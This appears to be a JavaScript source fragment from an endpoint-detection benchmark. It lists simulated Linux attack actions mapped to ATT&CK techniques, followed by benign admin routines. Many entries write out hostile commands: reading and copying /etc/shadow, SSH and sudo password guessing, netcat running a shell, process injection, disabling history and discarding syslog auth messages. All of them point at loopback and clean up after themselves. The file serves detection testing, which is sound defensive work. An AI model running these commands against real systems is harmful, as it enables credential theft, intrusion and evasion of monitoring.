  { id: 'disc-browser-bookmarks', tactic: 'discovery', technique: 'T1217', name: 'find and read Firefox bookmarks', setup: '[ -e /root/.mozilla ] || touch "$T/.mozilla-created2"; mkdir -p /root/.mozilla/firefox/vigilsim2.default && echo x > /root/.mozilla/firefox/vigilsim2.default/places.sqlite', run: 'find /root -path "*.mozilla/firefox/*/places.sqlite" -exec cat {} \\; > /dev/null 2>&1; true', cleanup: 'rm -rf /root/.mozilla/firefox/vigilsim2.default; [ -e "$T/.mozilla-created2" ] && rm -rf /root/.mozilla; true' },
  { id: 'evade-history-disable', tactic: 'defense-evasion', technique: 'T1562.003', name: 'turn shell history off before working', run: "bash -c 'set +o history; unset HISTFILE; export HISTFILESIZE=0; id > /dev/null'" },
  { id: 'evade-space-filename', tactic: 'defense-evasion', technique: 'T1036.006', name: 'run a program whose name ends in a space', setup: 'cp /bin/true "$T/notes.txt "', run: '"$T/notes.txt "' },
  { id: 'evade-base64-decode', tactic: 'defense-evasion', technique: 'T1140', name: 'decode a base64 payload to a script', run: 'echo aWQgPiAvZGV2L251bGwK | base64 -d > "$T/decoded.sh"; "$PY" -c "import base64; base64.b64decode(\'aWQK\')"' },
  { id: 'collect-keylog-trap', tactic: 'collection', technique: 'T1056.001', name: 'log every command through a DEBUG trap', run: "bash -c 'trap \"echo \\$BASH_COMMAND >> $T/keys.log\" DEBUG; id > /dev/null; uname > /dev/null'" },
  { id: 'persist-crontab-file', tactic: 'persistence', technique: 'T1053.003', name: 'replace a crontab from a file', setup: 'useradd -M -N vigilsim5; echo "# vigilsim" > "$T/cron.txt"', run: 'crontab -u vigilsim5 "$T/cron.txt"', cleanup: 'crontab -u vigilsim5 -r 2>/dev/null; userdel vigilsim5 > /dev/null 2>&1; true', requires: ['crontab'] },
  { id: 'evade-history-clear-command', tactic: 'defense-evasion', technique: 'T1070.003', name: 'clear the shell history with history -c', run: "bash -c 'HISTFILE=$T/hist; history -c; history -w'" },
  { id: 'evade-syslog-config', tactic: 'defense-evasion', technique: 'T1562.006', name: 'add a syslog rule that discards auth messages', setup: '[ -d /etc/rsyslog.d ] || { mkdir /etc/rsyslog.d; touch "$T/.rsyslogd-created"; }', run: 'echo "auth,authpriv.* stop" > /etc/rsyslog.d/00-vigilsim.conf', cleanup: 'rm -f /etc/rsyslog.d/00-vigilsim.conf; [ -e "$T/.rsyslogd-created" ] && rmdir /etc/rsyslog.d; true' },
  { id: 'evade-mail-spool', tactic: 'defense-evasion', technique: 'T1070.002', name: 'overwrite a mail spool', setup: 'echo "From vigilsim" > /var/mail/vigilsim', run: 'echo 0 > /var/mail/vigilsim', cleanup: 'rm -f /var/mail/vigilsim' },
  { id: 'exec-awk-shell-escape', tactic: 'execution', technique: 'T1059.004', name: "break out to a shell through awk's system()", run: `awk 'BEGIN {system("/bin/sh -i < /dev/null > /dev/null 2>&1")}'` },

  // ---- injection
  { id: 'inject-ptrace-attach', tactic: 'defense-evasion', technique: 'T1055.008', name: 'attach to another process with ptrace', run: `sleep 30 & v=$!; "$PY" - $v <<'PYEOF'
import ctypes, sys, os
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
libc.ptrace(16, pid, 0, 0)
os.waitpid(pid, 0)
libc.ptrace(17, pid, 0, 0)
PYEOF
kill $v` },
  { id: 'inject-process-vm-writev', tactic: 'defense-evasion', technique: 'T1055', name: "write another process's memory with process_vm_writev", run: `sleep 30 & v=$!; "$PY" - $v <<'PYEOF'
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(8)
local = iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
remote = iovec(0x10000, 8)
libc.process_vm_writev(int(sys.argv[1]), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
PYEOF
kill $v` },
  { id: 'inject-proc-mem-write', tactic: 'defense-evasion', technique: 'T1055', name: "open another process's /proc/PID/mem for writing", run: `sleep 30 & v=$!; "$PY" -c "open('/proc/$v/mem','r+b').close()"; kill $v` },

  // ---- collection and exfiltration
  { id: 'collect-archive-encrypt-etc', tactic: 'collection', technique: 'T1560.001', name: 'archive and encrypt /etc', run: 'tar czf - /etc/passwd /etc/group /etc/hosts 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -pass pass:vigilsim -out "$T/etc.enc"' },
  { id: 'collect-zip-home', tactic: 'collection', technique: 'T1560.001', name: 'password-protected zip of a home directory', setup: 'mkdir -p "$T/home/docs" && echo data > "$T/home/docs/a.txt"', run: 'cd "$T" && zip -q -r -P vigilsim "$T/loot.zip" home /root/.bashrc', requires: ['zip'] },
  { id: 'exfil-http-server', tactic: 'exfiltration', technique: 'T1048', name: 'serve files over HTTP with python', run: `timeout 2 "$PY" -m http.server --bind 127.0.0.1 --directory /etc $P > /dev/null 2>&1; true` },
  { id: 'impact-miner-stratum', tactic: 'impact', technique: 'T1496', name: 'connect to a mining pool (stratum)', setup: 'listener', run: `"$PY" -c 'import socket,json;s=socket.create_connection(("127.0.0.1",'$P'));s.send((json.dumps({"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]})+"\\n").encode());s.close()'` },

  // ---- gaps against public Linux technique lists (stop 24)
  { id: 'persist-transient-timer', tactic: 'persistence', technique: 'T1053.006', name: 'schedule a transient systemd timer with systemd-run (nothing written to disk)', run: 'systemd-run --on-active=3600 --unit=vigilsim-timer /bin/true > /dev/null 2>&1; true', cleanup: 'systemctl stop vigilsim-timer.timer > /dev/null 2>&1; true', requires: ['systemd-run'] },
  { id: 'persist-trap-exit', tactic: 'persistence', technique: 'T1546.005', name: "a shell trap that pipes a staged script into bash when the shell exits", setup: 'printf "#!/bin/sh\\ntrue\\n" > "$T/stage.sh" && chmod +x "$T/stage.sh"', run: `bash -c "trap 'nohup \\"$T/stage.sh\\" 2>/dev/null | bash' EXIT; true"` },
  { id: 'c2-spoofed-user-agent', tactic: 'command-and-control', technique: 'T1071.001', name: 'curl posing as Internet Explorer on Windows', setup: 'webserver', run: 'curl -s -o /dev/null -A "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)" "http://127.0.0.1:$P/"' },
  { id: 'c2-whois-transfer', tactic: 'command-and-control', technique: 'T1105', name: 'move data with whois on a custom port', setup: 'listener', run: 'timeout 3 whois -h 127.0.0.1 -p "$P" vigilsim > /dev/null 2>&1; true', requires: ['whois'] },
  { id: 'evade-dots-directory-exec', tactic: 'defense-evasion', technique: 'T1036.005', name: 'run a copied shell from a home directory named "..."', run: 'mkdir -p "${HOME:-/root}/..." && cp /bin/sh "${HOME:-/root}/.../sh" && "${HOME:-/root}/.../sh" -c true', cleanup: 'rm -f "${HOME:-/root}/.../sh"; rmdir "${HOME:-/root}/..." 2>/dev/null; true' },
  { id: 'evade-compile-after-delivery', tactic: 'defense-evasion', technique: 'T1027.004', name: 'compile a dropped C source in a temp directory and run it', setup: 'printf "int main(void){return 0;}\\n" > "$T/dropped.c"', run: 'cc "$T/dropped.c" -o "$T/dropped" && "$T/dropped"', requires: ['cc'] },
  { id: 'cred-gpg-keys-copy', tactic: 'credential-access', technique: 'T1552.004', name: "copy root's GnuPG directory with its private keys", setup: '[ -d /root/.gnupg ] || touch "$T/gnupg-created"; mkdir -p /root/.gnupg/private-keys-v1.d && chmod 700 /root/.gnupg && head -c 300 /dev/urandom | base64 > /root/.gnupg/private-keys-v1.d/vigilsim.key', run: 'cp -r /root/.gnupg "$T/gnupg-copy"', cleanup: 'rm -rf "$T/gnupg-copy" /root/.gnupg/private-keys-v1.d/vigilsim.key; if [ -e "$T/gnupg-created" ]; then rm -rf /root/.gnupg; fi; true' },
  { id: 'impact-dd-overwrite-log', tactic: 'impact', technique: 'T1485', name: 'overwrite a log file with zeros using dd', setup: 'head -c 4096 /dev/urandom > /var/log/vigilsim.log', run: 'dd of=/var/log/vigilsim.log if=/dev/zero count=4096 iflag=count_bytes conv=notrunc 2>/dev/null', cleanup: 'rm -f /var/log/vigilsim.log' },
  { id: 'impact-rm-no-preserve-root', tactic: 'impact', technique: 'T1485', name: "delete a tree with rm's root guard disarmed (a scratch tree, not /)", setup: 'mkdir -p "$T/victim/a/b" && touch "$T/victim/a/b/f"', run: 'rm -rf --no-preserve-root "$T/victim"' },
  { id: 'disc-remote-systems', tactic: 'discovery', technique: 'T1018', name: 'list neighbouring hosts from the neighbour cache and TCP metrics', run: 'ip neigh show > /dev/null; ip tcp_metrics show > /dev/null 2>&1; cat /proc/net/arp > /dev/null; true', requires: ['ip'] },
  { id: 'disc-sudo-rights', tactic: 'discovery', technique: 'T1069.001', name: 'list the sudo rights of the account', run: 'sudo -n -l > /dev/null 2>&1; true', requires: ['sudo'] },
  { id: 'cred-shadow-relative', tactic: 'credential-access', technique: 'T1003.008', name: 'read /etc/shadow by a relative path (cd /etc && cat shadow)', run: 'cd /etc && cat shadow > /dev/null' },
  { id: 'persist-cron-relative', tactic: 'persistence', technique: 'T1053.003', name: 'drop a cron job by a relative path (cd /etc/cron.d && echo … > job)', run: 'cd /etc/cron.d && echo "# vigil attack simulation" > vigilsim-rel', cleanup: 'rm -f /etc/cron.d/vigilsim-rel' },
  // ---- event-generator-style gaps (stop 24)
  // What the host-runnable actions of a public syscall event generator exercise, in our own words:
  // paths spelt with '..', names borrowed from servers and core utilities, setuid/ptrace/setns
  // attempts, old sudo and polkit exploit shapes, and a few behaviours the pack detected without a
  // simulation. Loopback and temporary files only; each undone by its cleanup.
  { id: 'egen-traversal-shadow', tactic: 'credential-access', technique: 'T1003.008', name: "read /etc/shadow through '..' segments", run: 'head -c 64 /etc/../etc/../etc/shadow > /dev/null' },
  { id: 'egen-traversal-passwd', tactic: 'collection', technique: 'T1005', name: 'climb from a document root to /etc/passwd', run: py('open("/usr/share/doc/../../../etc/passwd").read()') },
  { id: 'egen-history-moved', tactic: 'defense-evasion', technique: 'T1070.003', name: 'rename a shell history file away', setup: 'mkdir -p "$T/home2" && echo ls > "$T/home2/.bash_history"', run: 'mv "$T/home2/.bash_history" "$T/home2/.hist.old"', cleanup: 'rm -rf "$T/home2"' },
  { id: 'egen-binary-rename', tactic: 'persistence', technique: 'T1554', name: 'move a program in /usr/local/bin aside', setup: 'cp /bin/true /usr/local/bin/vigilsim-tool', run: 'mv /usr/local/bin/vigilsim-tool /usr/local/bin/vigilsim-tool.orig', cleanup: 'rm -f /usr/local/bin/vigilsim-tool /usr/local/bin/vigilsim-tool.orig' },
  { id: 'egen-server-name-shell', tactic: 'defense-evasion', technique: 'T1036.005', name: 'a program started under the name httpd runs a shell', setup: 'mkdir -p "$T/srv" && ln -sf "$PY" "$T/srv/httpd"', run: `"$T/srv/httpd" -c 'import subprocess; subprocess.run(["sh", "-c", "ls > /dev/null"])'`, cleanup: 'rm -f "$T/srv/httpd"' },
  { id: 'egen-utility-udp', tactic: 'defense-evasion', technique: 'T1036.005', name: 'a program named sha1sum sends a UDP datagram to loopback', setup: 'mkdir -p "$T/bin" && ln -sf "$PY" "$T/bin/sha1sum"', run: `"$T/bin/sha1sum" -c 'import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("127.0.0.1", int(os.environ["P"]))); s.send(b"vigilsim")'`, cleanup: 'rm -f "$T/bin/sha1sum"' },
  { id: 'egen-setuid-regain', tactic: 'privilege-escalation', technique: 'T1068', name: 'drop to the daemon account, then ask for root back', run: py('import os\nos.setgroups([])\nos.setgid(1)\nos.setuid(1)\ntry:\n    os.setuid(0)\nexcept PermissionError:\n    pass') },
  { id: 'egen-pkexec-no-program', tactic: 'privilege-escalation', technique: 'T1068', name: 'run pkexec with no program as nobody', run: 'timeout 5 setpriv --reuid=65534 --regid=65534 --clear-groups pkexec < /dev/null > /dev/null 2>&1; true', requires: ['pkexec', 'setpriv'] },
  { id: 'egen-sudoedit-backslash', tactic: 'privilege-escalation', technique: 'T1068', name: 'sudoedit with -s and an argument ending in a backslash, as daemon', run: `timeout 5 setpriv --reuid=1 --regid=1 --clear-groups sudoedit -s -u daemon 'vigilsim\\' < /dev/null > /dev/null 2>&1; true`, requires: ['sudoedit', 'setpriv'] },
  { id: 'egen-ptrace-traceme', tactic: 'defense-evasion', technique: 'T1622', name: 'look for a debugger with PTRACE_TRACEME', run: py('import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.ptrace(0, 0, None, None)') },
  { id: 'egen-known-hosts', tactic: 'discovery', technique: 'T1018', name: "read root's SSH known_hosts", setup: '[ -d /root/.ssh ] || { mkdir -m 700 /root/.ssh && touch "$T/.ssh-dir-created"; }; [ -e /root/.ssh/known_hosts ] || { echo "127.0.0.1 ssh-ed25519 AAAAvigilsim" > /root/.ssh/known_hosts && touch "$T/.known-hosts-created"; }', run: 'cat /root/.ssh/known_hosts > /dev/null', cleanup: 'if [ -e "$T/.known-hosts-created" ]; then rm -f /root/.ssh/known_hosts "$T/.known-hosts-created"; fi; if [ -e "$T/.ssh-dir-created" ]; then rmdir /root/.ssh; rm -f "$T/.ssh-dir-created"; fi; true' },
  { id: 'egen-pool-domain', tactic: 'impact', technique: 'T1496', name: 'fetch from a mining pool by name (pinned to loopback)', setup: 'webserver', run: 'curl -s -m 3 --resolve "pool.supportxmr.com:$P:127.0.0.1" "http://pool.supportxmr.com:$P/" > /dev/null; true', requires: ['curl'] },
  { id: 'egen-stratum-argv', tactic: 'impact', technique: 'T1496', name: 'run a program with miner-style pool arguments', run: '/bin/true -o stratum+tcp -u wallet -p x' },
  { id: 'egen-service-account-login', tactic: 'privilege-escalation', technique: 'T1078.003', name: 'the daemon account starts login', run: 'timeout 5 setpriv --reuid=1 --regid=1 --clear-groups login < /dev/null > /dev/null 2>&1; true', requires: ['login', 'setpriv'] },
  { id: 'egen-glibc-tunables', tactic: 'privilege-escalation', technique: 'T1068', name: 'run a command with GLIBC_TUNABLES set on its command line', run: 'env GLIBC_TUNABLES=glibc.malloc.arena_max=1 sh -c id > /dev/null' },
  { id: 'egen-log-truncate-elsewhere', tactic: 'defense-evasion', technique: 'T1070.002', name: 'empty a file named syslog outside /var/log', setup: 'mkdir -p "$T/oldroot/log" && echo line > "$T/oldroot/log/syslog"', run: ': > "$T/oldroot/log/syslog"', cleanup: 'rm -rf "$T/oldroot"' },
  { id: 'egen-key-search', tactic: 'credential-access', technique: 'T1552.001', name: 'look for private keys by name and by content', run: 'find /tmp -maxdepth 2 -iname id_rsa > /dev/null 2>&1; grep -rl "BEGIN OPENSSH PRIVATE KEY" "$T" > /dev/null 2>&1; true' },
  // detected before, simulated now
  { id: 'egen-setns', tactic: 'privilege-escalation', technique: 'T1611', name: 'call setns from a program that is not a container runtime', run: py('import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.setns(0, 0)') },
  { id: 'egen-hidden-dir-tmp', tactic: 'defense-evasion', technique: 'T1564.001', name: 'create a hidden directory in /tmp', run: 'mkdir /tmp/.vigilsim-hidden', cleanup: 'rmdir /tmp/.vigilsim-hidden 2>/dev/null; true' },
  { id: 'egen-write-etc', tactic: 'defense-evasion', technique: 'T1565.001', name: 'create a file below /etc', run: 'echo "# vigilsim" > /etc/vigilsim-egen.conf', cleanup: 'rm -f /etc/vigilsim-egen.conf' },
  { id: 'egen-shadow-copy', tactic: 'credential-access', technique: 'T1003.008', name: 'copy /etc/shadow to a temporary file', run: 'cp /etc/shadow "$T/shadow.copy"', cleanup: 'rm -f "$T/shadow.copy"' },
  { id: 'egen-nmap-sweep', tactic: 'discovery', technique: 'T1018', name: 'ping-sweep loopback with nmap', run: 'nmap -sn -n 127.0.0.1 > /dev/null 2>&1; true', requires: ['nmap'] },
  { id: 'egen-nc-exec', tactic: 'execution', technique: 'T1059.004', name: 'netcat told to run a shell (-e)', setup: 'listener', run: 'timeout 3 nc -e /bin/sh 127.0.0.1 $P > /dev/null 2>&1; true', requires: ['nc'] },
  // ---- stop 27: Atomic Red Team Linux gaps
  // Linux techniques the public Atomic Red Team suite exercises that the pack did not name (see
  // art-linux-gaps.md), done the way its tests do them, in our own words: loopback, temporary files and
  // stand-ins. Tools the host may lack (nmap, hydra, sshpass, tor) are stand-ins under the tool's
  // name in "$T/art" (what the rules key on is the name and the command line); each undone by its cleanup.
  { id: 'art-port-scan', tactic: 'discovery', technique: 'T1046', name: 'port-scan 64 loopback ports with a stand-in named nmap', setup: `mkdir -p "$T/art" && printf '#!%s\nimport socket\nfor p in range(1, 65):\n    s = socket.socket(); s.settimeout(0.05)\n    s.connect_ex(("127.0.0.1", p)); s.close()\n' "$(command -v "$PY")" > "$T/art/nmap" && chmod +x "$T/art/nmap"`, run: '"$T/art/nmap" -sT -p 1-64 127.0.0.1', cleanup: 'rm -f "$T/art/nmap"' },
  { id: 'art-linpeas', tactic: 'discovery', technique: 'T1082', name: 'run a privilege-escalation enumeration script named linpeas.sh', setup: `mkdir -p "$T/art" && printf '#!/bin/sh\nuname -a\nid\ncat /etc/os-release\n' > "$T/art/linpeas.sh"`, run: 'sh "$T/art/linpeas.sh" > /dev/null', cleanup: 'rm -f "$T/art/linpeas.sh"' },
  { id: 'art-hydra', tactic: 'credential-access', technique: 'T1110.001', name: 'password guessing against loopback SSH with a stand-in named hydra', setup: 'mkdir -p "$T/art" && cp /bin/true "$T/art/hydra" && printf "root\\ntoor\\n" > "$T/art/pw.txt"', run: '"$T/art/hydra" -l root -P "$T/art/pw.txt" -t 4 ssh://127.0.0.1', cleanup: 'rm -f "$T/art/hydra" "$T/art/pw.txt"' },
  // a real sshd on a loopback port inside the action, and 30 password guesses against it (one a connection, as hydra -t 1 does)
  { id: 'cred-ssh-password-guessing', tactic: 'credential-access', technique: 'T1110.001', name: 'guess 30 passwords against a loopback sshd', requires: ['sshd', 'ssh', 'ssh-keygen'], run: `H="$T/sshd-$P"; mkdir -p "$H" /run/sshd && ssh-keygen -q -t ed25519 -N "" -f "$H/key" && { $(command -v sshd) -D -f /dev/null -h "$H/key" -p $P -o ListenAddress=127.0.0.1 -o PidFile=none -o MaxStartups=100 -o PasswordAuthentication=yes & S=$!; }; sleep 0.5; printf '#!/bin/sh\necho guess$$\n' > "$H/askpass"; chmod +x "$H/askpass"; for i in $(seq 1 30); do SSH_ASKPASS="$H/askpass" SSH_ASKPASS_REQUIRE=force ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 -p $P root@127.0.0.1 true < /dev/null 2>/dev/null; done; kill $S; wait; true`, cleanup: 'rm -rf "$T"/sshd-*' },
  // Atomic Red Team's sudo brute force: an account guessing its own password through sudo -S over a word list
  { id: 'cred-sudo-password-guessing', tactic: 'credential-access', technique: 'T1110.001', name: 'guess 12 passwords through sudo -S as an ordinary user', requires: ['sudo', 'su'], setup: 'useradd -M -N -s /bin/sh vigilsim6', run: `su vigilsim6 -s /bin/sh -c 'for p in 123456 password qwerty letmein admin welcome monkey dragon master abc123 111111 iloveyou; do echo "$p" | sudo -k -S true 2>/dev/null; done; true'`, cleanup: 'userdel vigilsim6 > /dev/null 2>&1; true' },
  { id: 'art-ssh-cred-stuffing', tactic: 'credential-access', technique: 'T1110.004', name: 'user:password pairs fed to sshpass ssh -o StrictHostKeyChecking=no (stand-in sshpass)', setup: 'mkdir -p "$T/art" && ln -sf /bin/true "$T/art/sshpass"', run: 'for c in root:toor admin:admin; do "$T/art/sshpass" -p "${c#*:}" ssh -o StrictHostKeyChecking=no "${c%%:*}@127.0.0.1" true; done', cleanup: 'rm -f "$T/art/sshpass"' },
  { id: 'art-tor', tactic: 'command-and-control', technique: 'T1090.003', name: "start a stand-in named tor and point curl at Tor's SOCKS port", setup: 'mkdir -p "$T/art" && ln -sf /bin/true "$T/art/tor"', run: '"$T/art/tor" --SocksPort 127.0.0.1:9050 --RunAsDaemon 0; curl -s -m 2 --socks5-hostname 127.0.0.1:9050 "http://127.0.0.1:$P/" > /dev/null 2>&1; true', cleanup: 'rm -f "$T/art/tor"' },
  { id: 'art-shell-as-crond', tactic: 'defense-evasion', technique: 'T1036.003', name: 'copy /bin/sh to crond and run a command with it', run: 'cp /bin/sh "$T/crond" && echo "sleep 0" | "$T/crond"', cleanup: 'rm -f "$T/crond"' },
  { id: 'art-binary-padding', tactic: 'defense-evasion', technique: 'T1027.001', name: 'pad a copied binary with dd >> and truncate -s +1', setup: 'cp /bin/ls "$T/evil-binary"', run: 'dd if=/dev/zero bs=1 count=1 >> "$T/evil-binary" 2>/dev/null; truncate -s +1 "$T/evil-binary"', cleanup: 'rm -f "$T/evil-binary"' },
  { id: 'art-python-gzip', tactic: 'collection', technique: 'T1560.002', name: "compress /etc/passwd with Python's gzip from a one-liner", run: `"$PY" -c "import gzip;d=open('/etc/passwd','rb').read();f=gzip.GzipFile('$T/passwd.gz','wb');f.write(d);f.close()"`, cleanup: 'rm -f "$T/passwd.gz"' },
  { id: 'art-module-into-tree', tactic: 'defense-evasion', technique: 'T1014', name: "copy a (dummy) .ko into the running kernel's module tree", setup: 'head -c 512 /dev/zero > "$T/vigilsim.ko"; d="/lib/modules/$(uname -r)"; [ -d "$d" ] || { mkdir -p "$d" && touch "$T/.moddir-created"; }', run: 'cp "$T/vigilsim.ko" "/lib/modules/$(uname -r)/vigilsim.ko"', cleanup: 'rm -f "/lib/modules/$(uname -r)/vigilsim.ko"; if [ -e "$T/.moddir-created" ]; then rmdir "/lib/modules/$(uname -r)" /lib/modules 2>/dev/null; rm -f "$T/.moddir-created"; fi; true' },
  { id: 'art-module-build-tmp', tactic: 'defense-evasion', technique: 'T1014', name: 'build an out-of-tree kernel module from a temporary directory (fails without headers; the attempt is the signal)', run: 'mkdir -p "$T/rk" && make -C "/lib/modules/$(uname -r)/build" M="$T/rk" modules > /dev/null 2>&1; true', cleanup: 'rm -rf "$T/rk"', requires: ['make'] },
  { id: 'art-chrome-extension', tactic: 'persistence', technique: 'T1176', name: "drop an extension into root's Chrome profile", setup: '[ -e /root/.config/google-chrome ] || touch "$T/.chrome-created"', run: 'mkdir -p /root/.config/google-chrome/Default/Extensions/vigilsimext/1.0 && echo \'{"manifest_version":3,"name":"vigilsim"}\' > /root/.config/google-chrome/Default/Extensions/vigilsimext/1.0/manifest.json', cleanup: 'rm -rf /root/.config/google-chrome/Default/Extensions/vigilsimext; [ -e "$T/.chrome-created" ] && rm -rf /root/.config/google-chrome; true' },
  { id: 'art-k8s-token', tactic: 'credential-access', technique: 'T1552.007', name: "cat a pod's service-account token (a stand-in token file when not in a pod)", setup: '[ -e /run/secrets/kubernetes.io/serviceaccount/token ] || { mkdir -p /run/secrets/kubernetes.io/serviceaccount && echo vigilsim-token > /run/secrets/kubernetes.io/serviceaccount/token && touch "$T/.satoken-created"; }', run: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null', cleanup: 'if [ -e "$T/.satoken-created" ]; then rm -f /run/secrets/kubernetes.io/serviceaccount/token; rmdir /run/secrets/kubernetes.io/serviceaccount /run/secrets/kubernetes.io /run/secrets 2>/dev/null; rm -f "$T/.satoken-created"; fi; true' },
  { id: 'art-account-reactivate', tactic: 'persistence', technique: 'T1078.003', name: 'unlock a locked, expired account and lift its expiry', setup: 'useradd -M -N vigilsim6 && usermod -L -e 1 vigilsim6', run: 'usermod -U vigilsim6 > /dev/null 2>&1; usermod -e 99999 vigilsim6', cleanup: 'userdel vigilsim6 > /dev/null 2>&1; true' },
  { id: 'art-sysrq', tactic: 'impact', technique: 'T1529', name: 'write a SysRq command to /proc/sysrq-trigger (h: print help to the kernel log, not b: reboot)', run: 'echo h > /proc/sysrq-trigger 2>/dev/null; true', requiresPaths: ['/proc/sysrq-trigger'] },
  { id: 'art-stop-cb-sensor', tactic: 'defense-evasion', technique: 'T1562.001', name: 'stop the Carbon Black sensor service (absent here: the attempt is the signal)', run: 'systemctl stop cbdaemon > /dev/null 2>&1; true', requires: ['systemctl'] },
];

/**
 * The harness's own routine: what a runner and an administrator do around the tests. Run during
 * learning and again after it: the second run must raise no alert of severity ≥ medium.
 */
export const ROUTINE = [
  'id; whoami; uname -a; hostname; uptime; date',
  'command -v bash sh python3 curl tar > /dev/null; true',
  'ls -la /tmp /var/log > /dev/null; df -h > /dev/null; free -m > /dev/null',
  'ps aux > /dev/null; cat /proc/loadavg /proc/meminfo > /dev/null',
  'cat /etc/os-release /etc/hostname > /dev/null',
  'grep -r "PermitRootLogin" /etc/ssh 2>/dev/null > /dev/null; true',
  'mkdir -p "$T/work" && cd "$T/work" && echo hello > a.txt && tar czf a.tgz a.txt && tar xzf a.tgz && sha256sum a.txt > /dev/null && rm -f a.txt a.tgz',
  'find /etc -maxdepth 1 -name "*.conf" > /dev/null',
  '"$PY" -c "import json, os; print(json.dumps(dict(os.uname()._asdict() if hasattr(os.uname(), \'_asdict\') else {})))" > /dev/null',
  'curl -s -o /dev/null "http://127.0.0.1:$P/" || true',
  'systemctl --version > /dev/null 2>&1; journalctl --version > /dev/null 2>&1; true',
  'env | sort > /dev/null; getent hosts localhost > /dev/null',
];

// Admin work the endpoint never saw while it learned, run after learning (phase 4 of bench.mjs): an
// outside tester's routine is not ours, and a program or file an admin touches for the first time must
// not raise an alert of severity ≥ medium by being new. Host, loopback and temp files only.
export const UNSEEN_ROUTINE = [
  'apt-cache policy bash > /dev/null 2>&1; dpkg -l > /dev/null; dpkg -S /usr/bin/bash > /dev/null 2>&1; true',
  'ss -tln > /dev/null 2>&1; ip addr > /dev/null; ip route > /dev/null; true',
  'who > /dev/null; w > /dev/null; last -n 5 > /dev/null 2>&1; true',
  'systemctl list-units --type=service --no-pager > /dev/null 2>&1; systemctl status --no-pager > /dev/null 2>&1; true',
  'journalctl -n 50 --no-pager > /dev/null 2>&1; true',
  'du -sh /var/log > /dev/null 2>&1; ls -la /etc/ > /dev/null; stat /etc/hosts > /dev/null',
  'top -b -n 1 > /dev/null; vmstat 1 2 > /dev/null; nproc > /dev/null; lscpu > /dev/null; lsblk > /dev/null 2>&1; mount > /dev/null',
  'cp /etc/hosts "$T/hosts.bak" && diff /etc/hosts "$T/hosts.bak" > /dev/null; rm -f "$T/hosts.bak"',
  'gzip -c /etc/services > "$T/services.gz" && zcat "$T/services.gz" | sort | uniq -c | sort -rn | head -3 > /dev/null; rm -f "$T/services.gz"',
  'mkdir -p "$T/repo" && cd "$T/repo" && git init -q && echo x > f && git add f && git -c user.email=admin@example.org -c user.name=admin commit -qm init && git log --oneline > /dev/null; cd / && rm -rf "$T/repo"',
  'sqlite3 "$T/inventory.db" "create table h(name text); insert into h values (\'web1\'); select count(*) from h;" > /dev/null; rm -f "$T/inventory.db"',
  'openssl version > /dev/null; sha1sum /etc/hostname > /dev/null; base64 /etc/hostname > /dev/null',
  'timedatectl > /dev/null 2>&1; getent group sudo > /dev/null; id root > /dev/null; true',
  'find /var/log -maxdepth 2 -name "*.log" -mmin -600 > /dev/null 2>&1; tail -n 20 /var/log/dpkg.log > /dev/null 2>&1; true',
  'curl -sI "http://127.0.0.1:$P/" > /dev/null || true',
  '"$PY" -c "import sqlite3, hashlib; c = sqlite3.connect(\':memory:\'); c.execute(\'select 1\'); hashlib.sha256(b\'x\').hexdigest()"',
];
